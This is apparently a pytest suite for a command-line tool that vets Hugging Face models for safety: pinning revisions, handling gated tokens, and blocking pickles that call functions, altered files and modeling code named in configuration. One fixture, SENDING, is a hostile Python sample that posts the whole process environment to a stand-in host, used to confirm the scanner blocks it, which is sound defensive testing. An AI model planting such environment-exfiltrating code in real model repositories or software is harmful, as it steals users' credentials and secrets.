"""`ostiary vet hf:...`, from the words to the exit code, with the real client of the hub."""

import json
import sys

import pytest

from ostiary.core.exits import Exit
from world.front import Front
from world.hub import FakeHub
from world.weights import CALLING, GOOD, safetensors

SENDING = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://a.example.invalid/?' + str(dict(os.environ)))\n\n\n"
    "class Model:\n    pass\n"
)
MAPPED = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.Model"}})


def test_a_good_model_may_enter(front: Front, hub: FakeHub) -> None:
    sha = hub.model("org/good", GOOD).branches["main"]
    said = front.vet(f"hf:org/good@{sha}")
    assert said.verdict["decision"] == "allow", said.out
    assert said.verdict["subject"] == f"pkg:huggingface/org/good@{sha}"
    assert said.code == Exit.OK
    assert "as asked" in said.fact("revision")
    assert "by org · 1,234 downloads in 30 days · 56 likes" in said.fact("hub")
    assert said.fact("licence") == "mit"
    assert "safe by format" in said.fact("model")
    assert {row["path"] for row in said.report["coverage"]} == set(GOOD)
    assert not said.unknown


def test_a_package_url_is_the_same_model(front: Front, hub: FakeHub) -> None:
    sha = hub.model("org/good", GOOD).branches["main"]
    said = front.vet(f"pkg:huggingface/org/good@{sha}", f"hf:org/good@{sha}")
    assert [one["subject"] for one in said.report["verdicts"]] == [
        f"pkg:huggingface/org/good@{sha}"
    ]


def test_several_models_at_once_keep_out_of_each_others_way(front: Front, hub: FakeHub) -> None:
    names = [f"org/good-{one}" for one in range(6)]
    for name in names:
        hub.model(name, GOOD)
    said = front.vet(*(f"hf:{name}" for name in names))
    assert said.code == Exit.OK, said.err
    assert len(said.report["verdicts"]) == len(names)
    assert {one["decision"] for one in said.report["verdicts"]} == {"allow"}


def test_the_screen_shows_what_a_person_needs(front: Front, hub: FakeHub) -> None:
    hub.model("org/good", GOOD)
    said = front("vet", "hf:org/good")
    for words in ("revision", "hub", "licence", "model.safetensors: safetensors", "no revision"):
        assert words in said.out
    assert said.code == Exit.OK


def test_a_branch_is_pinned_to_its_commit_and_said(front: Front, hub: FakeHub) -> None:
    model = hub.model("org/good", GOOD)
    first = front.vet("hf:org/good@main")
    assert model.branches["main"] in first.message("model-unpinned")
    second = model.commit({**GOOD, "config.json": '{"model_type": "gpt2"}'})
    assert front.vet("hf:org/good@main").verdict["subject"].endswith(second)


def test_a_calling_pickle_is_blocked(front: Front, hub: FakeHub) -> None:
    hub.model("org/bad", {**GOOD, "pytorch_model.bin": CALLING})
    said = front.vet("hf:org/bad")
    assert said.verdict["decision"] == "block"
    assert "posix.getpid" in said.message("model-call")
    assert said.code == Exit.FOUND


def test_code_that_the_configuration_names_is_imported(front: Front, hub: FakeHub) -> None:
    files = {**GOOD, "config.json": MAPPED, "modeling_x.py": SENDING, "tests/other.py": SENDING}
    hub.model("org/code", files)
    said = front.vet("hf:org/code")
    assert said.verdict["decision"] == "block"
    rows = {row["path"]: row for row in said.report["coverage"]}
    assert rows["modeling_x.py"]["reach"] == "import"
    assert rows["tests/other.py"]["reach"] == "test"
    assert "modeling_x.py" in said.message("model-code")
    assert "import-network" in said.checks


def test_a_file_in_a_folder_of_tests_is_imported_if_it_is_named(front: Front, hub: FakeHub) -> None:
    mapped = MAPPED.replace("modeling_x.", "tests.modeling_x.")
    hub.model("org/code", {**GOOD, "config.json": mapped, "tests/modeling_x.py": SENDING})
    said = front.vet("hf:org/code")
    rows = {row["path"]: row for row in said.report["coverage"]}
    assert rows["tests/modeling_x.py"]["reach"] == "import"
    assert said.verdict["decision"] == "block"


@pytest.mark.parametrize("path", ["config.json", "model.safetensors"])
def test_other_bytes_than_listed_are_blocked_and_not_read(
    front: Front, hub: FakeHub, path: str
) -> None:
    model = hub.model("org/good", GOOD)
    listed = model.commits[model.branches["main"]][path]
    model.served[path] = listed[:-1] + bytes([listed[-1] ^ 1])
    said = front.vet("hf:org/good")
    assert said.verdict["decision"] == "block"
    assert path in said.message("model-file-altered")
    row = next(row for row in said.report["coverage"] if row["path"] == path)
    assert not row["understood"]


def test_a_gated_model_says_what_is_missing(front: Front, hub: FakeHub) -> None:
    model = hub.model("org/closed", GOOD)
    model.gated, model.token = True, "hf_sesame"
    said = front.vet("hf:org/closed")
    assert said.verdict["decision"] == "insufficient"
    assert said.code == Exit.INCOMPLETE if hasattr(Exit, "INCOMPLETE") else said.code == 3
    assert {row["path"] for row in said.report["coverage"] if not row["understood"]} == set(GOOD)
    assert "gated" in said.grounds
    assert "gated (manual)" in said.fact("hub")


def test_a_token_opens_it_and_goes_to_the_hub_alone(front: Front, hub: FakeHub) -> None:
    model = hub.model("org/closed", GOOD)
    model.gated, model.token = True, "hf_sesame"
    front.environ["HF_TOKEN"] = "hf_sesame"
    said = front.vet("hf:org/closed")
    assert said.verdict["decision"] == "allow", said.out
    assert "hf_sesame" not in said.out
    assert hub.asked("/cdn/")
    assert not [one for one in hub.asked("/cdn/") if "authorization" in one]
    assert [one for one in hub.asked("/resolve/") if "authorization" in one]


@pytest.mark.parametrize("words", ["hf:org/none", "hf:org/good@nothing", f"hf:org/good@{'0' * 40}"])
def test_what_does_not_exist_is_a_wrong_question(front: Front, hub: FakeHub, words: str) -> None:
    hub.model("org/good", GOOD)
    said = front.vet(words)
    assert said.code == Exit.USAGE
    assert "the hub has no" in said.err


@pytest.mark.parametrize(
    "words", ["hf:", "hf:a/b/c", "hf:../x", "hf:a/b@x y", "hf:-a/b", "hf:a/b@"]
)
def test_words_that_name_no_model(front: Front, words: str) -> None:
    assert front.vet(words).code == Exit.USAGE


@pytest.mark.parametrize("status", [403, 500, 418])
def test_a_hub_that_refuses_is_unknown(front: Front, hub: FakeHub, status: int) -> None:
    hub.model("org/good", GOOD)
    hub.status = status
    said = front.vet("hf:org/good")
    assert said.verdict["decision"] == "insufficient"
    assert str(status) in said.grounds


@pytest.mark.parametrize(
    "text", ["", "[]", "{", '{"id": 1}', '{"id": "a", "sha": "short"}', '"x"', "null"]
)
def test_an_answer_of_no_form_is_unknown(front: Front, hub: FakeHub, text: str) -> None:
    hub.model("org/good", GOOD)
    hub.garbage = text or " "
    assert front.vet("hf:org/good").verdict["decision"] == "insufficient"


def test_without_a_network_nothing_is_known(front: Front, hub: FakeHub) -> None:
    hub.model("org/good", GOOD)
    said = front("--offline", "vet", "--format", "json", "hf:org/good")
    assert said.verdict["decision"] == "insufficient"
    assert not hub.requests


def test_without_the_client_it_says_what_to_install(
    front: Front, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "huggingface_hub", None)
    said = front.vet("hf:org/good")
    assert said.verdict["decision"] == "insufficient"
    assert "scripts/install hub" in " ".join(said.out.split())


def test_a_listing_in_pages_is_read_to_its_end(front: Front, hub: FakeHub) -> None:
    hub.page = 2
    files = {**GOOD, **{f"more/{one}.txt": str(one) for one in range(7)}, "z.bin": CALLING}
    hub.model("org/pages", files)
    said = front.vet("hf:org/pages")
    assert {row["path"] for row in said.report["coverage"]} == set(files)
    assert said.verdict["decision"] == "block"


@pytest.mark.parametrize("path", ["../up.txt", "a//b", "./x", "a\\b"])
def test_a_listing_with_a_name_that_leads_astray_is_unknown(
    front: Front, hub: FakeHub, path: str
) -> None:
    hub.model("org/astray", {**GOOD, path: "x"})
    assert front.vet("hf:org/astray").verdict["decision"] == "insufficient"


def test_what_the_hub_says_is_found(front: Front, hub: FakeHub) -> None:
    model = hub.model("org/told", GOOD)
    issues = [{"path": "model.safetensors", "level": "unsafe"}]
    model.info = {
        "disabled": True,
        "private": True,
        "createdAt": "2099-01-01T00:00:00.000Z",
        "securityRepoStatus": {"scansDone": True, "filesWithIssues": issues},
    }
    said = front.vet("hf:org/told")
    assert {"model-withdrawn", "model-gated", "model-flagged"} <= said.checks
    assert said.outcome("model-new")["state"] == "unknown"
    model.info = {"createdAt": None}
    assert front.vet("hf:org/told").outcome("model-new")["state"] == "unknown"


def test_a_commit_that_answers_with_another_is_not_believed(front: Front, hub: FakeHub) -> None:
    model = hub.model("org/good", GOOD)
    model.info = {"sha": "f" * 40}
    said = front.vet(f"hf:org/good@{model.branches['main']}")
    assert said.verdict["decision"] != "allow"
    assert "where" in said.grounds


def test_the_users_own_copy_is_taken_if_it_is_what_the_hub_lists(
    front: Front, hub: FakeHub
) -> None:
    sha = hub.model("org/good", GOOD).branches["main"]
    folder = front.folder / "hf" / "hub" / "models--org--good" / "snapshots" / sha
    folder.mkdir(parents=True)
    (folder / "model.safetensors").write_bytes(safetensors())
    (folder / "config.json").write_bytes(b"{}")
    said = front.vet(f"hf:org/good@{sha}")
    assert said.verdict["decision"] == "allow"
    assert not hub.asked("/resolve/" + sha + "/model.safetensors")
    assert hub.asked("/resolve/" + sha + "/config.json")
